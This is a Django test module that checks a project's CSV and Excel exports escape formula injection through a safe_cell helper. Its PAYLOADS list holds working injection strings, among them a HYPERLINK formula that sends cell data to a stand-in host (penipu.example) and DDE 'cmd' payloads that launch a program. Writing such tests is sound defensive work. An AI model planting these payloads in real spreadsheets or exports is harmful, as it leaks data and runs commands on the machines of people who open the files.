"""CSV/Excel formula injection: every export goes through core.tabular.safe_cell."""

import csv
import io
import re
from pathlib import Path

from django.conf import settings
from django.test import SimpleTestCase
from django.urls import reverse
from openpyxl import load_workbook

from netral.core.tabular import FORMULA_START, safe_cell
from netral.people.models import Employee, SocialAccount
from netral.test import BaseTestCase

PAYLOADS = ['=HYPERLINK("http://penipu.example/?d="&A1,"Klik")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
# Files that write CSV for another purpose than a user's export.
NOT_EXPORTS = {
    "netral/elections/wilayah.py",  # builds the bundled region list from KPU's public files (make-time tool)
}


class SafeCellTestCase(SimpleTestCase):
    def test_it_neutralises_every_formula_start(self):
        for p in PAYLOADS:
            self.assertEqual(safe_cell(p), "'" + p)

    def test_it_leaves_ordinary_text_and_numbers_alone(self):
        self.assertEqual(safe_cell("Budi Santoso"), "Budi Santoso")
        self.assertEqual(safe_cell(-5), -5)
        self.assertEqual(safe_cell(None), "")

    def test_every_module_that_writes_csv_or_xlsx_uses_safe_cell(self):
        root = Path(settings.BASE_DIR)
        writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(|\.add_worksheet\(")
        missing = []
        for path in (root / "netral").rglob("*.py"):
            rel = path.relative_to(root).as_posix()
            if "/tests/" in rel or rel.startswith("netral/detect/") or rel in NOT_EXPORTS:
                continue
            text = path.read_text(encoding="utf-8")
            if writers.search(text) and "safe_cell" not in text and "safe_row" not in text:
                missing.append(rel)
        self.assertEqual(missing, [], "an export must write its cells through core.tabular.safe_cell/safe_row")


class EmployeeExportTestCase(BaseTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        emp = Employee.objects.create(unit=cls.upt_a, employment_type="ppnpn", internal_id=PAYLOADS[2], name=PAYLOADS[0],
                                      position=PAYLOADS[1], phone=PAYLOADS[3], grade="")
        SocialAccount.objects.create(employee=emp, platform="x", handle="=cmd", profile_url="https://x.com/a",
                                     notes=PAYLOADS[4])

    def assert_no_formula(self, cells):
        for value in cells:
            if isinstance(value, str) and value:
                self.assertFalse(value.startswith(FORMULA_START), repr(value))

    def test_csv_exports_escape_formulas(self):
        self.login(self.admin)
        for what in ("pegawai", "akun"):
            r = self.client.get(reverse("employee_export"), {"format": "csv", "jenis": what})
            body = b"".join(r.streaming_content).decode("utf-8-sig")
            rows = list(csv.reader(io.StringIO(body)))
            self.assertGreater(len(rows), 1)
            for row in rows:
                self.assert_no_formula(row)
            if what == "pegawai":
                self.assertIn("'" + PAYLOADS[0], [c for row in rows for c in row])

    def test_xlsx_export_has_no_formula_cells(self):
        self.login(self.admin)
        r = self.client.get(reverse("employee_export"), {"format": "xlsx"})
        wb = load_workbook(io.BytesIO(r.content))
        seen = []
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    self.assertNotEqual(cell.data_type, "f", cell.coordinate)
                    seen.append(cell.value)
        self.assert_no_formula(seen)
        self.assertIn("'" + PAYLOADS[0], seen)
